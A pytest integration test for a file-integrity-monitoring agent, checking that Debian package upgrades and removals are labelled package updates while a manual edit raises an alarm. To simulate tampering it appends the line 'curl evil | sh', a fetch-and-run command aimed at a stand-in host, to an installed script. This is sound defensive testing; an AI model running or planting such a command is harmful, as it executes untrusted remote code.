"""A real Debian package upgrade and removal under realtime FIM: "package update", no alarm.

Builds two versions of a tiny package with ``dpkg-deb --build``, installs v1, baselines its directory,
upgrades to v2 and removes it with the watcher running, and checks that every change is labelled
``package_update`` and that the detector raises no alarm, while a manual edit in between is an alarm.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from hostward.agent.detectors.base import Observation
from hostward.agent.detectors.fim import FimDetector
from hostward.agent.fim.config import WatchRoot
from hostward.agent.fim.diff import Change
from hostward.agent.fim.engine import FimEngine
from hostward.agent.fim.pkgdb import DpkgIndex
from hostward.agent.fim.scan import Scanner
from hostward.agent.fim.watch import FimWatcher
from hostward.wire import AlarmEvent
from tests.conftest import need

pytestmark = [pytest.mark.slow, pytest.mark.root]

PACKAGE = "hostward-fimtest"
PREFIX = Path("/opt/hostward-fimtest")


def _build(tmp: Path, version: str, files: dict[str, bytes]) -> Path:
    root = tmp / f"pkg-{version}"
    (root / "DEBIAN").mkdir(parents=True)
    (root / "DEBIAN" / "control").write_text(
        f"Package: {PACKAGE}\nVersion: {version}\nArchitecture: all\n"
        "Maintainer: hostward tests <tests@hostward.invalid>\nDescription: FIM package-update test\n"
    )
    for rel, content in files.items():
        path = root / PREFIX.relative_to("/") / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        path.chmod(0o755)
    deb = tmp / f"{PACKAGE}_{version}_all.deb"
    subprocess.run(
        ["dpkg-deb", "--root-owner-group", "--build", str(root), str(deb)], check=True, capture_output=True
    )
    return deb


def _dpkg(*args: str) -> None:
    """Run dpkg, waiting for its lock when another process (apt in a neighbouring job) holds it."""
    deadline = time.monotonic() + 300
    while True:
        done = subprocess.run(["dpkg", *args], capture_output=True, text=True)
        if done.returncode == 0:
            return
        if "lock" in (done.stderr + done.stdout) and time.monotonic() < deadline:
            time.sleep(2)
            continue
        raise AssertionError(f"dpkg {' '.join(args)} failed: {done.stderr}")


@pytest.fixture
def package_env(tmp_path: Path) -> Iterator[Path]:
    need("root", "installs a Debian package")
    if shutil.which("dpkg-deb") is None:
        pytest.skip("dpkg-deb not installed")
    subprocess.run(["dpkg", "--purge", PACKAGE], capture_output=True)
    try:
        yield tmp_path
    finally:
        subprocess.run(["dpkg", "--purge", PACKAGE], capture_output=True)
        shutil.rmtree(PREFIX, ignore_errors=True)


class Sink:
    def __init__(self) -> None:
        self.changes: list[Change] = []
        self.cond = threading.Condition()

    def __call__(self, changes: list[Change]) -> None:
        with self.cond:
            self.changes.extend(changes)
            self.cond.notify_all()

    def wait(self, pred, timeout: float = 30.0) -> list[Change]:  # type: ignore[no-untyped-def]
        deadline = time.monotonic() + timeout
        with self.cond:
            while not pred([c for c in self.changes if c.significant()]):
                left = deadline - time.monotonic()
                if left <= 0:
                    raise AssertionError(
                        f"timed out; saw {[(c.path, c.action, c.label) for c in self.changes]}"
                    )
                self.cond.wait(left)
            return [c for c in self.changes if c.significant()]

    def take(self) -> list[Change]:
        with self.cond:
            out, self.changes = self.changes, []
            return [c for c in out if c.significant()]


def _alarms(changes: list[Change]) -> list[AlarmEvent]:
    events = FimDetector().feed(Observation("fim_changes", changes), datetime.now(UTC))
    return [e for e in events if isinstance(e, AlarmEvent)]


def test_real_package_upgrade_and_removal_are_package_updates(package_env: Path) -> None:
    tool = PREFIX / "bin" / "tool"
    helper = PREFIX / "bin" / "helper"
    v1 = _build(package_env, "1.0", {"bin/tool": b"#!/bin/sh\necho v1\n"})
    v2 = _build(
        package_env, "2.0", {"bin/tool": b"#!/bin/sh\necho v2 with more\n", "bin/helper": b"helper\n"}
    )
    _dpkg("-i", str(v1))

    engine, _ = FimEngine.init(
        package_env / "fim.db",
        [WatchRoot(os.fsencode(PREFIX))],
        scanner=Scanner(racy_ns=0),
        packages=DpkgIndex(),
    )
    sink = Sink()
    watcher = FimWatcher(engine, sink, settle_s=0.1, poll_s=0.2)
    watcher.start()
    try:
        # Upgrade: the tool changes, a helper appears; both match the new md5sums.
        _dpkg("-i", str(v2))
        seen = sink.wait(
            lambda cs: (
                {os.fsencode(tool), os.fsencode(helper)} <= {c.path for c in cs} and engine.deferred == 0
            )
        )
        by_path = {c.path: c for c in seen}
        assert by_path[os.fsencode(tool)].action == "changed"
        assert all(
            c.label == "package_update" for c in seen if c.path in (os.fsencode(tool), os.fsencode(helper))
        )
        assert not any(c.path.endswith(b".dpkg-new") for c in sink.changes), [
            (c.path, c.action, c.label, c.attrs) for c in sink.changes
        ]
        assert [a for a in _alarms(seen) if a.evidence["file_path"] in (str(tool), str(helper))] == []
        # Usually these were seen while dpkg held its lock and classified after it let go (deferral is
        # tested deterministically in tests/unit/test_fim_engine.py); a slow watcher may see only the end.
        sink.take()

        # A manual edit of the package's file is tampering.
        with open(tool, "ab") as f:
            f.write(b"curl evil | sh\n")
        seen = sink.wait(lambda cs: any(c.path == os.fsencode(tool) for c in cs))
        (edit,) = [c for c in seen if c.path == os.fsencode(tool)]
        assert edit.label == "change" and edit.package is not None and not edit.package.matches
        assert len(_alarms([edit])) == 1
        sink.take()

        # Removal: the files leave the package database with the package -> package update too.
        _dpkg("-r", PACKAGE)
        seen = sink.wait(
            lambda cs: (
                {os.fsencode(helper)} <= {c.path for c in cs if c.action == "removed"}
                and engine.deferred == 0
            )
        )
        removed = [c for c in seen if c.action == "removed" and c.path == os.fsencode(helper)]
        assert removed and all(c.label == "package_update" for c in removed)
        assert [a for a in _alarms(removed)] == []
    finally:
        watcher.stop()
        engine.close()
